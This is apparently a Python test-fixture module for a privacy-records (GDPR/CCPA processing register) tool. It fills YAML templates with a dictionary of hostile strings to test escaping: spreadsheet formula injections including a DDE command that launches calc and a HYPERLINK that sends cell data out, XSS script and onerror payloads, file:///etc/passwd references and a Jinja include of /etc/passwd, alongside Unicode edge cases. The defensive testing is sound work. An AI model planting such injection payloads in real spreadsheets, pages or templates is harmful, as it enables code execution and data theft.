"""A register in which every text is what a stranger with bad intentions, or only another alphabet, may write."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from pathlib import Path

from support import project_of

REGISTER = """
    schema: 2
    title: TEXT
    kept_by: organization
    as_of: 2026-01-31
    confirmed_by: {by: TEXT, on: 2026-01-31}
    organization:
      name: TEXT
      legal_form: TEXT
      registration: TEXT
      address: TEXT
      country: NO
      email: TEXT
      telephone: TEXT
      website: TEXT
      use: TEXT
      when: TEXT
      qualified: TEXT
      note: TEXT
      establishments:
        head-office: {name: TEXT, address: TEXT, country: NO}
    representatives:
      eu: {name: TEXT, address: TEXT, email: TEXT}
      uk: {not-applicable: TEXT}
    dpo: {name: TEXT, email: TEXT}
    contacts:
      privacy: {name: TEXT, email: TEXT, use: TEXT}
    applicable_laws: {eu-gdpr: {when: TEXT}, ccpa: {inferred: TEXT}}
    rights:
      access: {text: TEXT, people: TEXT, method: TEXT}
    opt_outs:
      signals: {text: TEXT}
    minors: {text: TEXT}
    register_wide:
      everywhere:
        applies_to: {role: [controller, processor], people: TEXT}
        security:
          encryption: {text: TEXT}
        transfers: {vague: TEXT}
    declared:
      categories:
        A:
          label: TEXT
          collected: yes
          examples: TEXT
          sources: {data-subject: {text: TEXT}}
          purposes: {selling: {text: TEXT}}
          disclosed_to: {affiliates: {text: TEXT}}
          disclosure_purposes: {selling: {text: TEXT}}
          sold: {text: TEXT, period: TEXT}
          shared: {text: TEXT, period: TEXT}
          sold_to: {affiliates: {text: TEXT}}
          sale_purposes: {selling: {text: TEXT}}
          retention: {text: TEXT}
      other:
        else: {label: TEXT, collected: yes, examples: TEXT}
      sensitive:
        account-access: {label: TEXT, collected: no, examples: TEXT}
      sources: {data-subject: {text: TEXT}}
      purposes: {selling: {text: TEXT}}
      disclosure_purposes: {selling: {text: TEXT}}
      disclosed_to: {affiliates: {text: TEXT}}
      sold: {text: TEXT, period: TEXT}
      shared: {text: TEXT, period: TEXT}
      retention: {text: TEXT}
      minors: {text: TEXT}
      limit_use: {text: TEXT}
      period: {text: TEXT}
      sold_to: {affiliates: {text: TEXT}}
      sale_purposes: {selling: {text: TEXT}}
      links: {opt-out: {title: TEXT, location: TEXT, party: TEXT}}
      handling: {verification: {text: TEXT}}
      updated: 2026-01-31
    inconsistencies:
      lists: {text: TEXT, between: [policy/one, policy/two], activities: [sales]}
    approvals: {2026-01-31: {by: TEXT, facts: TEXT}}
    reviews: {2026-01-31: {by: TEXT, facts: TEXT}}
    vocabulary:
      personal_data:
        badge-photo: {label: TEXT, ccpa: [A], art_9: health, dpv: TEXT, group: TEXT}
      data_subjects: {visitors-of-ours: {label: TEXT}}
      measures: {locks: {label: TEXT}}
      recipient_categories: {couriers-of-ours: {label: TEXT}}
      origins: {fairs: {label: TEXT}}
      processing: {sorting: {label: TEXT}}
    glossary: {? TEXT : TEXT}
    document: {version: TEXT, prepared_by: TEXT, approved_by: TEXT, confidentiality: TEXT, watermark: TEXT}
    waivers: {element-not-answered: {reason: TEXT, until: 2026-12-31, by: TEXT, at: TEXT}}
    notes: TEXT
"""

SALES = """
    id: sales
    name: TEXT
    role: {controller: {note: TEXT, when: TEXT, qualified: TEXT}, joint-controller: {inferred: TEXT}}
    description: TEXT
    reference: TEXT
    department: TEXT
    owner: TEXT
    volume: TEXT
    notes: TEXT
    purposes:
      selling:
        text: TEXT
        when: TEXT
        lawful_basis:
          consent: {interest: TEXT, law: TEXT, contract: TEXT, when: TEXT, qualified: TEXT}
        art_9: {explicit-consent: {when: TEXT, law: TEXT, schedule_1: {condition: TEXT, policy_document: {title: TEXT}, followed: no, reasons: TEXT}}}
        art_10: {not-applicable: TEXT}
        lia: {status: not-required, reason: TEXT, title: TEXT, location: TEXT, party: TEXT}
        business_purposes: {auditing: {when: TEXT}}
      counting: {vague: TEXT, text: TEXT, reading: TEXT}
      guessing: {inferred: TEXT, text: TEXT}
    data_subjects: {customers: {when: TEXT, qualified: TEXT}, visitors-of-ours: {inferred: TEXT}}
    personal_data:
      email:
        text: TEXT
        subjects: [customers]
        ccpa: [A]
        ccpa_reason: TEXT
        required: TEXT
        retention: {period: P1Y, after: TEXT, until: TEXT, law: TEXT}
      badge-photo: {retention: {vague: TEXT}}
    retention: {inferred: TEXT, until: TEXT}
    collected_from: {fairs: {text: TEXT, data: [email]}, data-subject: {vague: TEXT}}
    recipients:
      acme:
        text: TEXT
        purpose: TEXT
        example_of: couriers-of-ours
        kind: {processor: {inferred: TEXT}}
        data: [email]
        sale: {none: [], period: TEXT, text: TEXT}
        sharing: {text: TEXT, period: TEXT}
        contract: {title: TEXT, location: TEXT, on: 2026-01-31, party: TEXT}
      couriers-of-ours: {text: TEXT}
    sale: {text: TEXT}
    locations: {NO: {text: TEXT}, own-cellar: {text: TEXT}}
    transfers:
      abroad:
        text: TEXT
        exporter: TEXT
        importer: TEXT
        countries: [US]
        organization: TEXT
        destination: TEXT
        mechanism: {standard-contractual-clauses: {title: TEXT, location: TEXT, party: TEXT, entry: TEXT}}
        safeguards: TEXT
        tia: {status: done, reason: TEXT, title: TEXT}
    security: {encryption: {text: TEXT}, locks: {text: TEXT, when: TEXT}}
    use_limits: {no-resale: {text: TEXT, when: TEXT}, no-training: {inferred: TEXT}}
    systems: {till: {text: TEXT, operated_by: acme}}
    joint_controllers: {partner: {name: TEXT, contact: TEXT, arrangement: {title: TEXT, party: TEXT}}}
    automated_decisions: {text: TEXT, logic: TEXT, significance: TEXT, ground: TEXT}
    profiling: TEXT
    minors: {vague: TEXT}
    consent_record: {title: TEXT, location: TEXT}
    notice: {title: TEXT, location: TEXT}
    retention_policy: {title: TEXT, location: TEXT}
    dpia: {status: not-required, reason: TEXT, title: TEXT}
    lia: {status: done, title: TEXT}
    reviews: {2026-01-31: {by: TEXT, outcome: TEXT, facts: TEXT}}
    waivers: {element-not-answered: {reason: TEXT, until: 2026-12-31}}
"""

HOSTING = """
    id: hosting
    name: TEXT
    role: {processor: stated}
    controllers: {shops: {when: TEXT}}
    processing: {sorting: {text: TEXT}, recording: {inferred: TEXT}}
    processing_contract: {title: TEXT, party: TEXT}
    personal_data: {email: {text: TEXT}}
    transfers: none
    security: {encryption: {text: TEXT}}
"""

RECIPIENTS = """
    acme:
      name: TEXT
      category: couriers-of-ours
      text: TEXT
      address: TEXT
      email: TEXT
      website: TEXT
"""

CONTROLLERS = """
    shops:
      name: TEXT
      text: TEXT
      list_kept_at: TEXT
      representative: {name: TEXT, email: TEXT}
      dpo: {name: TEXT, email: TEXT}
"""

SOURCE = """
    title: TEXT
    kind: document
    publisher: TEXT
    file: TEXT
    address: TEXT
    language: TEXT
    version: TEXT
    by: TEXT
    about: TEXT
    dates: {effective: {date: 2026-01-31, as_written: TEXT, note: TEXT}}
    passages:
      one: {at: first words … last words, qualified: TEXT, note: TEXT}
      two: {at: other words … last words, after: TEXT}
"""

HOSTILE = {
    "formula": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1 234",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "link": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")',
    "apostrophe": "'=1+1",
    "quotes": "\"double\" 'single', comma; semicolon ",
    "script": "<script>alert(1)</script>",
    "closing": "</td></table></style></title><script src=http://127.0.0.1:9/x.js></script>",
    "image": '<img src="http://127.0.0.1:9/x.png" onerror=alert(1)>',
    "anchor": '<a href="file:///etc/passwd">passwd</a><link rel=attachment href="file:///etc/passwd">',
    "style": "<style>@import 'file:///etc/passwd'; body{background:url(http://127.0.0.1:9/)}</style>",
    "address": "see https://127.0.0.1:9/a?b=1&c=2 or www.example.com or file:///etc/passwd or x@example.com",
    "entity": "R&amp;D &lt;b&gt; &#60;script&#62;",
    "jinja": "{{ 7*7 }} {% include '/etc/passwd' %} {# gone #} ${7*7} #{7*7} %(x)s %s {0} {x}",
    "pipe": "a | b || c \\| d",
    "backtick": "`code` ``code`` ```code```",
    "markdown": "# heading **bold** _it_ ~~no~~ [link](http://127.0.0.1:9/) ![img](x.png) <http://127.0.0.1:9/> --- 1. a",
    "rule": "--- | --- |",
    "list": "1. first 2) second",
    "excel-escape": "_x003D_1+1 and _x000A_ and _x00",
    "full-width": "＝1+1",
    "brackets": "[a]: http://127.0.0.1:9/ [^1] [x] \\[y\\]",
    "right-to-left": "שלום עולם مرحبا بالعالم",
    "cjk": "個人情報の取扱い 개인정보 处理活动记录",
    "emoji": "👩🏽‍💻 🏳️‍🌈 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "combining": "Z͑ͫ̓a̴l̷g̶o e\u0301 ạ\u0308\u0323",
    "soft": "soft\u00adhyphen zero\u200bwidth no\u00a0break",
    "scripts": "Ελληνικά Кириллица հայերեն ქართული አማርኛ देवनागरी தமிழ் తెలుగు ไทย ລາວ ខ្មែរ မြန်မာ 한국어 漢字かな",
    "no-glyph": "ᚠᛁ 𓀀 \ue000 \u0605",
    "word": "x" * 3000,
}


def written(template: str, texts: Sequence[str], first: int) -> str:
    """*template* with each TEXT replaced by the next of *texts* and a number of its own, quoted for YAML."""
    numbers = iter(range(first, first + 1000))
    return re.sub(
        "TEXT", lambda _: json.dumps(numbered(texts, next(numbers)), ensure_ascii=False), template
    )


def numbered(texts: Sequence[str], number: int) -> str:
    return f"{texts[number % len(texts)]} №{number}"


def hostile(root: Path, *texts: str) -> Path:
    """A project at *root* in which every text is one of *texts*."""
    return project_of(
        root,
        {
            "records/shop/register.yaml": written(REGISTER, texts, 1000),
            "records/shop/activities/sales.yaml": written(SALES, texts, 2000),
            "records/shop/activities/hosting.yaml": written(HOSTING, texts, 3000),
            "records/shop/recipients.yaml": written(RECIPIENTS, texts, 4000),
            "records/shop/controllers.yaml": written(CONTROLLERS, texts, 5000),
            "records/shop/sources/policy.yaml": written(SOURCE, texts, 6000),
        },
    )
